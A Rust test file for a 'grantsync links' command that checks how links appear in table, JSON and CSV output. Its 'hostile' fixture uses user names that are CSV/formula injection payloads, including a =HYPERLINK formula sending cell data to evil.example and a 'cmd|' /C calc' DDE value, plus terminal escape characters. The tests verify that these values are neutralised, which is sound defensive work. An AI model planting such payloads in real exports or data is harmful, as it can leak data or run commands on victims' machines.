//! `grantsync links`: how links are shown.

use expect_test::expect;
use grantsync::sandbox::{Sandbox, State, World, tokens};
use serde_json::{Value, json};

use crate::command::{against, as_staff, reads};
use crate::links::{example, id};

#[tokio::test]
async fn ids_are_shown_where_they_are_asked_for_and_are_as_good_as_names() {
    let sandbox = example().await;
    let said = as_staff(&sandbox, &["links", "-v", "--user", "dave"]).await.stdout;
    let (heading, line) = said.trim_end().split_once('\n').unwrap();
    let (cluster_b, dave, link) = {
        let world = sandbox.world();
        let link = world.links.iter().find(|it| it.user.simple().to_string() == id(&world, "dave")).unwrap().clone();
        assert_eq!(
            line.split_whitespace().collect::<Vec<_>>(),
            [
                &link.id.simple().to_string(),
                "HPC",
                "cluster-b",
                "member",
                "dave",
                "Dave",
                "Example",
                &link.resource.simple().to_string(),
                &link.role.simple().to_string(),
                &link.user.simple().to_string(),
            ]
        );
        (id(&world, "cluster-b"), link.user.hyphenated().to_string(), link)
    };
    let columns = heading.split("  ").map(str::trim).filter(|it| !it.is_empty()).collect::<Vec<_>>();
    assert_eq!(columns, ["LINK", "OFFERING", "RESOURCE", "ROLE", "USER", "NAME", "RESOURCE ID", "ROLE ID", "USER ID"]);
    let role = link.role.to_string().to_uppercase();
    let again = as_staff(&sandbox, &["links", "-v", "--resource", &cluster_b, "--role", &role, "--user", &dave]).await;
    assert_eq!(again.stdout, said);
}

#[tokio::test]
async fn one_link_is_shown_by_its_id() {
    let sandbox = example().await;
    let link = sandbox.world().links.iter().find(|it| it.serial == 8).unwrap().id;
    let said = as_staff(&sandbox, &["links", &link.to_string()]).await.to_string();
    let mut scrubbed = said;
    for (id, name) in {
        let world = sandbox.world();
        let it = world.links.get(link).unwrap();
        let resource = world.resources.get(it.resource).unwrap();
        let (offering, project) = (resource.offering, resource.project);
        [
            (it.id, "link"),
            (it.resource, "resource"),
            (offering, "offering"),
            (project, "project"),
            (it.role, "role"),
            (it.user, "user"),
        ]
    } {
        scrubbed = scrubbed.replace(&id.simple().to_string(), &format!("<{name}>"));
    }
    expect![[r#"
        link                 <link>
        resource  cluster-b  <resource>
        offering  HPC        <offering>
        project   Project    <project>  Consumer
        role      member     <role>
        user      dave       <user>  Dave Example
    "#]]
    .assert_eq(&scrubbed);

    let json = as_staff(&sandbox, &["links", "--format", "json", &link.to_string()]).await.stdout;
    let json: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(json["links"].as_array().unwrap().len(), 1);
    assert_eq!(json["links"][0]["id"], link.simple().to_string());

    sandbox.world().unlink(link);
    let gone = as_staff(&sandbox, &["links", &link.to_string()]).await.to_string();
    expect![[r#"
        ! error: there is no link `<link>`
        !   help: a link goes with its user, its role or its resource, and its id never comes back; `grantsync links -v` shows those there are
        [exit 1]
    "#]].assert_eq(&gone.replace(&link.simple().to_string(), "<link>"));
    let unseen = against(&sandbox, tokens::NOBODY, &["links", &link.to_string()]).await.to_string();
    assert!(unseen.contains("or none that this token may see"), "{unseen}");
    reads(&sandbox);
}

#[tokio::test]
async fn programs_read_json() {
    let sandbox = example().await;
    let said = as_staff(&sandbox, &["links", "--user", "alice", "--resource", "cluster-a", "--format", "json"]).await;
    assert_eq!((said.code, said.stderr.as_str()), (Some(0), ""));
    let world = sandbox.world();
    let alice = id(&world, "alice");
    let mut rows: Vec<_> = world.links.iter().filter(|it| it.user.simple().to_string() == alice).collect();
    let resource = world.resources.get(rows[0].resource).unwrap();
    rows.retain(|it| it.resource == resource.id);
    rows.sort_by_key(|it| it.id);
    let row = |number: usize| {
        json!({
            "id": rows[number].id.simple().to_string(),
            "resource": {
                "id": resource.id.simple().to_string(),
                "name": "cluster-a",
                "offering": { "id": resource.offering.simple().to_string(), "name": "HPC" },
                "terminated": false,
            },
            "role": { "id": rows[number].role.simple().to_string(), "name": "admin" },
            "user": { "id": alice, "username": "alice", "full_name": "Alice Example" },
            "duplicate": number > 0,
        })
    };
    let expected = json!({ "version": 1, "sight": "everything", "changing": false, "links": [row(0), row(1)] });
    assert_eq!(serde_json::from_str::<Value>(&said.stdout).unwrap(), expected);
}

/// A world of people with names that harm whoever shows them carelessly.
async fn hostile() -> Sandbox {
    let mut world = World::new();
    let offering = world.offering("R&D, \"special\"");
    let role = world.role(offering, "=admin");
    let resource = world.resource(offering, "two\nlines");
    for (username, first_name, last_name) in [
        ("a", "=HYPERLINK(\"http://evil.example/?\"&A1)", ""),
        ("b", "+49 30 1234", "Doe"),
        ("@c", "-2+3", "cmd|' /C calc'!A0"),
        ("d", "\u{1b}[31mred\u{202e}", "O'Neil"),
        ("e", "＝1", ""),
        ("f", "Zoë 🎩", "de la Cruz, Jr."),
    ] {
        let user = world.user(username);
        world.change_user(username, |it| {
            (it.first_name, it.last_name) = (first_name.to_owned(), last_name.to_owned());
        });
        world.link(resource, role, user);
    }
    Sandbox::start(world).await.unwrap()
}

#[tokio::test]
async fn spreadsheets_read_csv_and_compute_nothing_of_it() {
    let sandbox = hostile().await;
    let said = as_staff(&sandbox, &["links", "--format", "csv"]).await;
    assert_eq!(said.stdout.matches('\n').count(), said.stdout.matches("\r\n").count());
    let lines: Vec<_> = said.stdout.trim_end().split("\r\n").collect();
    // The ids are left out: the first column, and the last four.
    let names = lines.iter().map(|it| it.split_once(',').unwrap().1.rsplitn(5, ',').last().unwrap());
    expect![[r#"
        offering,resource,role,username,full_name,duplicate,terminated
        "R&D, ""special""",two\u{a}lines,'=admin,'@c,'-2+3 cmd|' /C calc'!A0,false,false
        "R&D, ""special""",two\u{a}lines,'=admin,a,"'=HYPERLINK(""http://evil.example/?""&A1)",false,false
        "R&D, ""special""",two\u{a}lines,'=admin,b,'+49 30 1234 Doe,false,false
        "R&D, ""special""",two\u{a}lines,'=admin,d,\u{1b}[31mred\u{202e} O'Neil,false,false
        "R&D, ""special""",two\u{a}lines,'=admin,e,'＝1,false,false
        "R&D, ""special""",two\u{a}lines,'=admin,f,"Zoë 🎩 de la Cruz, Jr.",false,false"#]]
    .assert_eq(&names.collect::<Vec<_>>().join("\n"));
}

#[tokio::test]
async fn names_do_not_move_the_cursor_and_stay_what_they_are_in_json() {
    let sandbox = hostile().await;
    expect![[r#"
        OFFERING        RESOURCE       ROLE    USER  NAME
        R&D, "special"  two\u{a}lines  =admin  @c    -2+3 cmd|' /C calc'!A0
        R&D, "special"  two\u{a}lines  =admin  a     =HYPERLINK("http://evil.example/?"&A1)
        R&D, "special"  two\u{a}lines  =admin  b     +49 30 1234 Doe
        R&D, "special"  two\u{a}lines  =admin  d     \u{1b}[31mred\u{202e} O'Neil
        R&D, "special"  two\u{a}lines  =admin  e     ＝1
        R&D, "special"  two\u{a}lines  =admin  f     Zoë 🎩 de la Cruz, Jr.
        ! 6 links
    "#]]
    .assert_eq(&as_staff(&sandbox, &["links"]).await.to_string());
    let said = as_staff(&sandbox, &["links", "--format", "json", "--user", "d"]).await.stdout;
    assert!(said.chars().all(|it| it == '\n' || !it.is_control()) && !said.contains('\u{202e}'), "{said}");
    let json: Value = serde_json::from_str(&said).unwrap();
    assert_eq!(json["links"][0]["user"]["full_name"], "\u{1b}[31mred\u{202e} O'Neil");
    assert_eq!(json["links"][0]["resource"]["name"], "two\nlines");
}

#[tokio::test]
async fn resources_that_only_their_ids_tell_apart_are_told_apart() {
    let mut world = World::example();
    let [hpc, member, alice] = ["HPC", "member", "alice"].map(|name| match name {
        "HPC" => world.offerings.iter().find(|it| it.name == name).unwrap().id,
        name => id(&world, name).parse().unwrap(),
    });
    let twin = world.resource(hpc, "cluster-b");
    world.link(twin, member, alice);
    world.resources.get_mut(twin).unwrap().state = State::Terminated;
    let first = id(&world, "cluster-b");
    let sandbox = Sandbox::start(world).await.unwrap();
    let said = as_staff(&sandbox, &["links", "--user", "alice"]).await.to_string();
    expect![[r#"
        OFFERING  RESOURCE               ROLE    USER   NAME
        HPC       cluster-a              admin   alice  Alice Example
        HPC       cluster-b [Project]    admin   alice  Alice Example
        HPC       cluster-b [Chemistry]  member  alice  Alice Example  resource terminated
        ! 3 links
    "#]]
    .assert_eq(&said.replace(&twin.simple().to_string(), "<twin>").replace(&first, "<first>"));
}
